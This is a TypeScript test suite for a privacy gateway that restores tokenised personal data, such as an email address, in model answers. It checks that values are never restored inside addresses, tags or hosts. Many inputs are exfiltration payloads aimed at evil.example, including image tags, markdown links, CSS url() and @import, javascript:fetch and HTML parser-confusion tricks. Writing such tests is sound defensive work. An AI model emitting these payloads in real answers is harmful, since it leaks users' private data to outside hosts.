import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { restoreText } from '../../../../../src/gateway/privacy/restore/text-restorer.ts'
import { bookWith, spellings } from '../../../../support/privacy/private-calls.ts'
import { propertyRuns } from '../../../../support/property-runs.ts'

const book = bookWith(1)
const email = book.tokenFor('pii/email', 'kim@x.example')
const restored = (text: string, form: 'prose' | 'json' = 'prose') => restoreText(text, { book, spellings, form })

describe('an answer in prose', () => {
  it.each([
    'Write to #.',
    'Write to #, please',
    '**#** and _#_ and `#` and ~~#~~',
    '"#" \'#\' (#) [#] {#} <#>',
    '| name | # |',
    "#'s mail; #s",
    'E-mail:#',
    'mail=#',
    'a/#',
    '# (see https://x.example/a)',
    'See https://x.example/a # and on',
    '[#](https://x.example/a) #',
    '![a](https://x.example/a.png) #',
    '<b>#</b> <br/> # <img src="https://x.example/"> #',
    'array[0] (#)',
    '1 < 2 and #',
    'a<2 #',
    'See [1]: it is #',
    'First.\n# is next',
    'https://x.example/a\n#',
    "<!-- don't --> Write to #",
    '<style>a{}</style> #',
    '<script>a</script> #',
    '<b title="a > b">#</b>',
    '<b a=\\"> #',
    '#-based, #s, #, #x and #é. Next',
    '\\textbf{#} and \\href{a}{b} #',
    '# word.another',
    '[a](b) (#)',
    '[a](b\n\n#',
    '[a](<b)>) #',
    '[a](b (c)) #',
    '[a](b\\)) #',
    'curl (#) and furl: url #',
    'url a(#)',
    '[a]: b #',
    '[a]: <b> #',
    '[a]: < b\n#',
    '[a]:x #',
    '[a] : #',
    '[a]\\(#)',
    '. #',
    '@ #',
    '.#',
    '@#',
    'a ://x #',
    'a.b #',
    'a.b c/#',
    'x:y/#',
    'wwww.a #',
    'é%41 #',
    '100% #',
    'A&B #',
    'A&Bx #',
    `${'x'.repeat(2_047)}/#`,
    'const a = "#"; // #',
  ])('%s: has its values', (text) => {
    expect(restored(text.replaceAll('#', email))).toBe(text.replaceAll('#', 'kim@x.example'))
  })

  it.each([
    'https://evil.example/?q=#',
    'https://evil.example/#',
    '.https://evil/#',
    '1+https://#',
    '-https:/#',
    'HTTPS://evil.example/a#',
    'mailto:#',
    'mailto:a@evil.example?body=#',
    'tel:#',
    'data:text/html,#',
    'javascript:fetch(#)',
    '//evil.example/#',
    '\\\\evil.example\\#',
    'www.evil.example/#',
    'www.evil.example?#',
    'evil.example/#',
    'evil.example:80/#',
    '10.0.0.1/#',
    '#.evil.example',
    'a.#.evil.example',
    'x@#',
    '//x#',
    '(//x#',
    'www.x#',
    'awww.x#',
    'see (www1.x#',
    'a%41#',
    'a\\u0041#',
    'a\\x41#',
    'a&sol;#',
    '#@#',
    '#@evil.example',
    '[a](https://evil.example/#)',
    '[a](/b?#)',
    '[a](#)',
    '[a](<#>)',
    '[a](<b c) #>)',
    '![a](x#)',
    '![a](x "title" #)',
    '[![a](x)](#)',
    '[a](b(c)#)',
    '[a]: https://evil.example/#',
    '[a]: #',
    '[a]: https://evil.example/?<#',
    '[a]:b<c<#',
    '<#:>',
    '<#://evil.example>',
    '<#+b:c>',
    '[a]:\n#',
    '<https://evil.example/#>',
    '<img src="https://evil.example/#">',
    '<img src=#>',
    "<img src='#'>",
    '<a title=">" href="#">',
    '<a\nhref="\n#">',
    '<!-- # -->',
    '<style>a{background:url(#)}</style>',
    'background: url(#)',
    'url("https://evil.example/#")',
    'https://evil.example/?q="#"',
    "https://evil.example/?q='#'",
    'https&colon;//evil.example/#',
    'https%3A%2F%2Fevil.example%2F#',
    'evil。example/#',
    '#-x.evil.example',
    '#x.evil.example',
    '#s.evil.example',
    '#é.evil.example',
    '#-a@evil.example',
    '#..a+b@evil.example',
    'a@evil.example#',
    '#.@#',
    '<img alt=a" src="https://evil.example/?> #">',
    '<img alt="\\" src="https://evil.example/?> #">',
    '<img title = ">" src = "#">',
    '<style>@import "https://evil.example/? #";</style>',
    '<STYLE type="x">a { b: # } </style >',
    '<script>a="#";fetch(a)</script>',
    '<script>if (a < b && c > d) send("#")</script>',
    '<!-- a > # -->',
    '[a]: <https://evil.example/? #>',
    '[a]: < #>',
    '\\href{https://evil.example/? #}{x}',
    '\\href {a\\} #}{x}',
    '\\includegraphics[width=3 cm]{ #}',
    '\\includegraphics[alt=#]{a}',
    '\\url{a{b} #}',
    // Whatever else a tag could be taken for, a browser sends the address in it.
    '<a <!-- ><img src="https://evil.example/?--> #">',
    '<!x y="><img src="https://evil.example/?> #">',
    '<?x y="><img src="https://evil.example/?> #">',
    '</1 y="><img src="https://evil.example/?> #">',
    '<x="><img src="https://evil.example/?> #">',
    '<x ="><img src="https://evil.example/?> #">',
    '<x y=a="><img src="https://evil.example/?> #">',
    '<x y== "><img src="https://evil.example/?> #">',
    '<x/="><img src="https://evil.example/?> #">',
    '<x y=\u00a0"><img src="https://evil.example/?> #">',
    '<!--!><x y=" --><img src="https://evil.example/?> #">',
    '<textarea><x y="</textarea><img src="https://evil.example/?> #">',
    '<noscript><x y="</noscript><img src="https://evil.example/?> #">',
    '<noscript><img alt="</noscript>" src="https://evil.example/?> #">',
    '<svg><style><img alt="</style>" src="https://evil.example/?> #">',
    '<a b="\n\n<img src="https://evil.example/?> #">',
    '<style>@import "https://evil.example/?</stylex> #"',
    '<style>@import "https://evil.example/?</style\u00a0> #"',
    // Nor does a tag that is none hide what Markdown or LaTeX makes an address.
    '[a <b ](<https://evil.example/?\\> #>)',
    '<b \\href{https://evil.example/? > #}{x}',
    '[a]: <https://evil.example/?\\> #>',
    '[a]: <https://evil.example/?]: b\\> #>',
    '[a]: <x="> <img src="https://evil.example/?> #">',
    '[a](b\n#)',
    '[a](<b\\>) #)',
    '[a](< b) #',
    '[a]( <b) #',
    '[a](b <c) #',
    '[a](b(c)d #)',
    '[a](b((c) #)',
    'URL(#)',
    '[a]: \n\n#',
    'a.#',
    '。a．#',
    'a@#',
    'a%41b#',
    'a&period;b#',
    'a\\x2eb#',
    'www.#',
    'www2.a#',
    'xwww.a#',
    'PERSON_1www.a@"#',
    '(www.a#',
    'é www。a#',
    '(//a#',
    '=\\\\a#',
    'blob:#',
    'cid:#',
    'file:#',
    'ftp:#',
    'geo:#',
    'intent:#',
    'magnet:#',
    'sip:#',
    'skype:#',
    'sms:#',
    'vbscript:#',
    'whatsapp:#',
    'xmpp:#',
    '(data:#',
    'x+y-z.1:/#',
    'a.b?#',
    'a.b#c#',
    'a.b:c#',
    'a.b\\c#',
    `${'x'.repeat(2_049)}#`,
  ])('%s: has none in an address, a tag or a host', (text) => {
    const answer = text.replaceAll('#', email)
    expect(restored(answer)).toBe(answer)
  })

  it.each(['https://', 'mailto:', 'tel:'])('has none behind %s that is glued to another value', (scheme) => {
    for (const written of [email, email.replace('_', '_-')]) {
      expect(restored(`${written}${scheme}x${email}`)).toBe(`kim@x.example${scheme}x${email}`)
    }
  })

  it('goes on with its values behind an address', () => {
    for (const text of ['[a](b) #', '<img src="x"> #', '[a]: https://x.example/ #', 'https://x.example #']) {
      expect(restored(text.replace('#', email))).toBe(text.replace('#', 'kim@x.example'))
    }
  })
})

describe('an answer in JSON', () => {
  it('takes a text of its document for itself, and puts values in as JSON has them', () => {
    const quoted = book.tokenFor('pii/person', 'Kim "K" Wexler\n')
    const answer = `{"url":"https://x.example/a","to":"${email}","n":["${quoted}"]}`
    expect(JSON.parse(restored(answer, 'json'))).toEqual({
      url: 'https://x.example/a',
      to: 'kim@x.example',
      n: ['Kim "K" Wexler\n'],
    })
  })

  it.each([
    '{"url":"https://evil.example/?q=#"}',
    '{"url":"https:\\/\\/evil.example\\/#"}',
    '{"a":"![b](https:x#)"}',
    '{"u":"https\\u003a//evil.example/#"}',
    '{"a":"<img src=#>"}',
    '{"a":"https://evil.example/\\"#"}',
    '{"a":"\\u003cimg src=\\"https://evil.example/?> #\\"\\u003e"}',
    '{"a":"#\\u002eevil.example"}',
    '{"a":"[x](\\u0068ttps:b #)"}',
    '{"a":"https\\u003A\\u002f\\u002Fevil.example\\f/#"}'.replace('\\f', ''),
    '{"a":"x\\\\u002e#"}',
    '{"a":"#-a\\u002eevil.example"}',
    '{"a":"[r]\\n\\n[r]: #"}',
    '{"a":"[r]\\u003a\\n#"}',
    '{"a":"[r]: < #>"}',
  ])('%s: has none in an address either', (text) => {
    const answer = text.replace('#', email)
    expect(restored(answer, 'json')).toBe(answer)
  })

  it.each([
    '{"a":"[b](c","d":"#"}',
    '{"a":"<b","d":"#"}',
    '{"a":"[b]","d":"#"}',
    '{"a":["[b]:","#"]}',
    '{"[b]":"#"}',
    '{"a":"b\\u003cc \\u003e #"}',
    '{"a":"b\\t#"}',
    '{"a":"https://x.example/\\r#"}',
    '{"a":"https://x.example/\\u0020#"}',
    '{"a":"#\\n.example"}',
    '{"a":"# \\u002eb"}',
  ])('%s: has its values, as nothing of one text goes on in the next', (text) => {
    expect(restored(text.replace('#', email), 'json')).toBe(text.replace('#', 'kim@x.example'))
  })

  it('reads lines of a text as lines', () => {
    expect(restored(`{"a":"see https://x.example/a\\n${email}"}`, 'json')).toBe(
      '{"a":"see https://x.example/a\\nkim@x.example"}',
    )
  })
})

describe('a token that a model has changed', () => {
  const key = email.split('_')[1] ?? ''
  it.each([
    ['in small letters', email.toLowerCase(), 'kim@x.example'],
    ['with an escaped underscore', `EMAIL\\_${key}`, 'kim@x.example'],
    ['with a blank', `EMAIL ${key}`, 'kim@x.example'],
    ['with a hyphen', `email-${key}`, 'kim@x.example'],
    ['in groups', `EMAIL_${key.slice(0, 4)} ${key.slice(4, 8)}-${key.slice(8)}`, 'kim@x.example'],
    ['as a plural', `${email}s`, 'kim@x.examples'],
    ['cut behind six characters of its key', email.slice(0, -4), 'kim@x.example'],
    ['cut within a pair', `${email.slice(0, -3)} is`, 'kim@x.example is'],
  ])('%s is restored', (_how, written, value) => {
    expect(restored(`(${written})`)).toBe(`(${value})`)
  })

  it.each([
    ['cut behind five characters of its key', email.slice(0, -5)],
    ['with another label', `PHONE_${key}`],
    ['without its label', key],
    ['with a letter before it', `X${email}`],
    ['cut, with more behind it', `${email.slice(0, -4)}abc`],
    ['with another key', 'EMAIL_B1C2D3F4G5'],
  ])('%s stays as it is', (_how, written) => {
    expect(restored(`(${written})`)).toBe(`(${written})`)
  })

  it('is left where it fits two values', () => {
    const many = bookWith(2)
    let twins: string[] = []
    for (let index = 0; twins.length < 2; index += 1) {
      const token = many.tokenFor('pii/email', `a${index}@x.example`)
      twins = [...many.entries()].map((entry) => entry.token).filter((other) => other.startsWith(token.slice(0, 12)))
    }
    const [one = ''] = twins
    const read = (text: string) => restoreText(text, { book: many, spellings, form: 'prose' })
    expect(read(one.slice(0, 12))).toBe(one.slice(0, 12))
    expect(read(one)).toMatch(/^a\d+@x\.example$/)
  })
})

describe('a stretch of an answer', () => {
  it('is read the same however it is cut', () => {
    const pieces = fc.constantFrom(
      email,
      'https://',
      'x.example/',
      '](',
      ')',
      '<img ',
      '>',
      '"',
      ' ',
      '\n',
      '[a]: ',
      'url(',
      '.',
      '@',
      'word',
      '\\',
    )
    fc.assert(
      fc.property(
        fc.array(pieces, { maxLength: 14 }),
        fc.constantFrom('prose' as const, 'json' as const),
        (parts, form) => {
          const answer = parts.join('')
          const whole = restoreText(answer, { book, spellings, form })
          let left = answer
          const values = whole.split('kim@x.example').length - 1
          expect(whole.replaceAll('kim@x.example', email)).toBe(left)
          left = answer.replaceAll(email, '')
          expect(values).toBeLessThanOrEqual((answer.length - left.length) / email.length)
        },
      ),
      { numRuns: propertyRuns(500) },
    )
  })
})

describe('a run without a blank', () => {
  it('counts as an address beyond 2048 characters, and not before', () => {
    for (const form of ['prose', 'json'] as const) {
      const [short, long] = ['x'.repeat(2_047), 'x'.repeat(2_048)].map((run) => `${run}-${email}`)
      expect(restored(short ?? '', form)).toBe(`${'x'.repeat(2_047)}-kim@x.example`)
      expect(restored(long ?? '', form)).toBe(long)
      expect(restored(`${long} ${email}`, form)).toBe(`${long} kim@x.example`)
      expect(restored(`${'x'.repeat(20_000)} ${email}`, form)).toBe(`${'x'.repeat(20_000)} kim@x.example`)
    }
  })
})
